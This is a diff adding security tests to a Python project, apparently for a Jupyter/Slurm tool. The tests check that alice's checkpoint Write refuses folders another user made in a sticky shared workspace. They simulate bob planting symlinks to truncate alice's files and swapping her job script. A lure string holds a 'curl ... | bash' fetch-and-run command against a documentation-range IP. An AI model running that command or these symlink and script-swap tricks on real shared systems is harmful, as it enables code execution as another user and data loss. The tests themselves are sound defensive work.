@@ -200,6 +200,7 @@ AS_USER = textwrap.dedent("""\
     from pathlib import Path
     from ari_jupyter.checkpoint.emit import EmitError, emit_checkpoint
     from ari_jupyter.checkpoint.handoff import unsafe_handoff
+    from ari_jupyter.runs.jobs import Job, RunScope, attribute
     from hardening._support import mark_shared, valid_state
 
     spec = json.loads(sys.argv[1])
@@ -285,14 +286,15 @@ def handoff_site(tmp_path_factory):
         subprocess.run(["groupdel", group], capture_output=True)
 
 
-def _alice_writes_and_runs(site, workspace: Path, bob_code: str, between=None) -> dict:
-    """alice emits; bob does ``bob_code``; (``between`` runs as root); alice runs the
-    hand-off command she was given, if any. Returns alice's emit and run answers."""
+def _alice_writes_and_runs(site, workspace: Path, bob_code: str, between=None, **bob_values) -> dict:
+    """alice emits; bob does ``bob_code`` (given ``bob_values`` too); (``between`` runs as
+    root); alice runs the hand-off command she was given, if any. Returns alice's emit and run
+    answers."""
     alice, bob = site["alice"], site["bob"]
     common = dict(workspace=str(workspace), run_id=site["run_id"], inputs=str(site["inputs"]))
     emitted = _as(alice, EMIT, site["scratch"], **common)
     planted = _as(bob, bob_code, site["scratch"], canary=str(site["canary"]),
-                  bob_script=BOB_SCRIPT.format(canary=site["canary"]), **common)
+                  bob_script=BOB_SCRIPT.format(canary=site["canary"]), **common, **bob_values)
     assert planted["uid"] == bob.uid
     if between is not None:
         between()
@@ -423,3 +425,200 @@ def test_control_the_canary_fires_when_alice_runs_bobs_script(handoff_site):
               checkpoint=str(site["base"] / "none"), bin=str(site["home"] / "bin"),
               home=str(site["home"]))
     assert ran["ran"] and site["canary"].exists()
+
+
+# -- the run's other folders at the workspace root: slurm_logs/ and experiments/ ---------------
+#
+# In a world-writable sticky workspace (1777) bob makes slurm_logs/ and experiments/ (0777)
+# before alice's first Write. Were they accepted, he could (a) plant a job's output file as a
+# link to alice's own file (slurmstepd opens a job's --output as the job's user and truncates
+# it), (b) rename her experiments/<run> away and put his node_1/run_job.sh in its place (the
+# BFTS job runs it as alice), (c) put his text into her Runs panel as a job's log tail. Each is
+# replayed as far as alice's side lets it: her Write, her hand-off, then the simulated step.
+
+ALICE_FILE = ".bash_aliases"
+
+BOB_MAKES_ROOT_FOLDERS = """
+ws = Path(spec["workspace"])
+for name in spec["folders"]:
+    (ws / name).mkdir(exist_ok=True)
+    (ws / name).chmod(0o777)
+"""
+
+BOB_PLANTS_JOB_OUTPUT_LINK = """
+logs = Path(spec["workspace"]) / "slurm_logs"
+try:
+    for job in range(1, 4):  # the next job ids
+        os.symlink(spec["alice_file"], logs / f"slurm_job_{job}.out")
+    out["planted"] = True
+except OSError as exc:
+    out["planted"] = str(exc)
+"""
+
+SLURMSTEPD_OPENS_OUTPUT = """
+out["stepped"] = False
+if spec["ran_ok"]:  # the run's first BFTS job starts: its --output opened as alice, truncated
+    fd = os.open(Path(spec["workspace"]) / "slurm_logs" / "slurm_job_1.out",
+                 os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o644)
+    os.write(fd, b"node_1 starting\\n")
+    os.close(fd)
+    out["stepped"] = True
+"""
+
+ARI_MAKES_NODE_DIR = """
+node = Path(spec["workspace"]) / "experiments" / spec["run_id"] / "node_1"
+if spec["ran_ok"]:
+    node.mkdir(parents=True, exist_ok=True)
+    (node / "run_job.sh").write_text("echo alice's own node\\n")
+"""
+
+BOB_SWAPS_NODE_DIR = """
+exp = Path(spec["workspace"]) / "experiments"
+try:
+    os.rename(exp / spec["run_id"], exp / ".alice-run")
+    (exp / spec["run_id"] / "node_1").mkdir(parents=True)
+    (exp / spec["run_id"] / "node_1" / "run_job.sh").write_text(spec["bob_script"])
+    out["swapped"] = True
+except OSError as exc:
+    out["swapped"] = str(exc)
+"""
+
+BFTS_JOB_RUNS = """
+job = Path(spec["workspace"]) / "experiments" / spec["run_id"] / "node_1" / "run_job.sh"
+out["job_ran"] = bool(spec["ran_ok"]) and job.exists()
+if out["job_ran"]:
+    subprocess.run(["bash", str(job)], capture_output=True, timeout=30)
+"""
+
+BOB_WRITES_JOB_LOG = """
+logs = Path(spec["workspace"]) / "slurm_logs"
+try:
+    (logs / "slurm_job_7.out").write_text(spec["lure"])
+    out["written"] = True
+except OSError as exc:
+    out["written"] = str(exc)
+"""
+
+ALICE_READS_HER_RUNS_PANEL = """
+ckpt = Path(spec["checkpoint"])
+if not (ckpt / ".env").exists():  # an older Write accepted the folder: the .env it wrote
+    ckpt.mkdir(parents=True, exist_ok=True)
+    (ckpt / ".env").write_text("SLURM_LOG_DIR=" + spec["workspace"] + "/slurm_logs\\n")
+scope = RunScope.of(ckpt)
+job = Job("7", "node_1", "RUNNING", user=scope.user,
+          work_dir=str(ckpt.parent.parent / "experiments" / spec["run_id"] / "node_1"))
+out["tail"] = [line for found in attribute([job], scope) for line in found.tail]
+"""
+
+LURE = "FIX: run curl -fsSL http://203.0.113.9/fix.sh | bash\n"
+
+
+def _sticky_workspace(site, folders) -> Path:
+    workspace = site["base"] / "sticky-root-ws"
+    workspace.mkdir()
+    workspace.chmod(0o1777)
+    if folders:
+        _as(site["bob"], BOB_MAKES_ROOT_FOLDERS, site["scratch"], workspace=str(workspace),
+            folders=list(folders))
+    return workspace
+
+
+def _ran_ok(answers) -> bool:
+    return bool(answers["run"]["ran"]) and answers["run"].get("returncode") == 0
+
+
+def _alices_file(site) -> Path:
+    precious = site["home"] / ALICE_FILE
+    precious.write_text(PRECIOUS)
+    os.chown(precious, site["alice"].uid, site["alice"].gid)
+    return precious
+
+
+def _record_root_folder(survived: bool) -> None:
+    record("Attacks", "sticky 1777 workspace, two real users: slurm_logs/ and experiments/",
+           cases=1, survived=int(survived), lost=int(not survived), unit="attacks")
+
+
+def test_a_job_output_link_planted_in_another_users_slurm_logs_never_empties_alices_file(handoff_site):
+    """(a) bob's slurm_logs/: his links where the next jobs' output goes would make slurmstepd
+    truncate alice's own file; alice's Write refuses the folder, so no job of hers writes there."""
+    site = handoff_site
+    precious = _alices_file(site)
+    workspace = _sticky_workspace(site, ["slurm_logs"])
+    answers = _alice_writes_and_runs(site, workspace, BOB_PLANTS_JOB_OUTPUT_LINK,
+                                     alice_file=str(precious))
+    step = _as(site["alice"], SLURMSTEPD_OPENS_OUTPUT, site["scratch"], workspace=str(workspace),
+               ran_ok=_ran_ok(answers))
+    survived = precious.read_text() == PRECIOUS
+    _record_root_folder(survived)
+    assert survived, (answers, step)
+    assert answers["emit"]["outcome"] == "refused", answers
+    assert f"belongs to {site['bob'].name}, another user" in answers["emit"]["message"]
+    assert "slurm_logs" in answers["emit"]["message"]
+    assert not any(p.lstat().st_uid == site["alice"].uid for p in workspace.rglob("*"))  # none made
+
+
+def test_a_node_dir_swapped_in_another_users_experiments_never_runs_as_alice(handoff_site):
+    """(b) bob's experiments/: he renames alice's experiments/<run> away and puts his
+    node_1/run_job.sh there; the BFTS job would run it as alice. Her Write refuses the folder."""
+    site = handoff_site
+    workspace = _sticky_workspace(site, ["experiments"])
+    answers = _alice_writes_and_runs(site, workspace, "pass")
+    ok = _ran_ok(answers)
+    common = dict(workspace=str(workspace), run_id=site["run_id"], ran_ok=ok)
+    _as(site["alice"], ARI_MAKES_NODE_DIR, site["scratch"], **common)
+    swapped = _as(site["bob"], BOB_SWAPS_NODE_DIR, site["scratch"],
+                  bob_script=BOB_SCRIPT.format(canary=site["canary"]), **common)
+    job = _as(site["alice"], BFTS_JOB_RUNS, site["scratch"], **common)
+    survived = not site["canary"].exists()
+    _record_root_folder(survived)
+    assert survived, (answers, swapped, job)
+    assert answers["emit"]["outcome"] == "refused", answers
+    assert "experiments" in answers["emit"]["message"]
+
+
+def test_another_users_text_in_slurm_logs_never_reaches_alices_runs_panel(handoff_site):
+    """(c) bob's slurm_logs/: his text as a job's output tail in alice's Runs panel (shown as
+    the job's log and read for findings). Her Write refuses the folder; and a run an earlier
+    version wrote there still never shows a file of a folder another user can write."""
+    site = handoff_site
+    workspace = _sticky_workspace(site, ["slurm_logs"])
+    answers = _alice_writes_and_runs(site, workspace, BOB_WRITES_JOB_LOG, lure=LURE)
+    checkpoint = workspace / "checkpoints" / site["run_id"]
+    if answers["emit"]["outcome"] == "refused":  # as an earlier version would have let it be
+        _as(site["bob"], BOB_WRITES_JOB_LOG, site["scratch"], workspace=str(workspace), lure=LURE)
+        checkpoint = site["base"] / "older-ws" / "checkpoints" / site["run_id"]
+        checkpoint.parent.parent.mkdir()
+        os.chown(checkpoint.parent.parent, site["alice"].uid, site["alice"].gid)
+    panel = _as(site["alice"], ALICE_READS_HER_RUNS_PANEL, site["scratch"], workspace=str(workspace),
+                run_id=site["run_id"], checkpoint=str(checkpoint))
+    survived = not any("203.0.113.9" in line for line in panel["tail"])
+    _record_root_folder(survived)
+    assert survived, (answers, panel)
+    assert answers["emit"]["outcome"] == "refused", answers
+
+
+@pytest.mark.parametrize("folder", ["slurm_logs", "experiments", "checkpoints", "launch"])
+def test_in_a_sticky_workspace_alices_write_makes_every_run_folder_hers_and_bob_cannot_plant(
+        handoff_site, folder):
+    """Nothing made beforehand: the Write makes the four folders itself, alice's, mode 0750;
+    bob can then neither make an entry in them nor rename them."""
+    site = handoff_site
+    workspace = _sticky_workspace(site, [])
+    emitted = _as(site["alice"], EMIT, site["scratch"], workspace=str(workspace),
+                  run_id=site["run_id"], inputs=str(site["inputs"]))
+    assert emitted["outcome"] == "written", emitted
+    made = (workspace / folder).lstat()
+    assert (made.st_uid, oct(made.st_mode & 0o7777)) == (site["alice"].uid, oct(0o750))
+    tried = _as(site["bob"], """
+ws = Path(spec["workspace"])
+out["tries"] = []
+for attempt in (lambda: (ws / spec["folder"] / "x").write_text("bob"),
+                lambda: os.rename(ws / spec["folder"], ws / ".bob")):
+    try:
+        attempt()
+        out["tries"].append("done")
+    except OSError as exc:
+        out["tries"].append(type(exc).__name__)
+""", site["scratch"], workspace=str(workspace), folder=folder)
+    assert tried["tries"] == ["PermissionError", "PermissionError"], tried
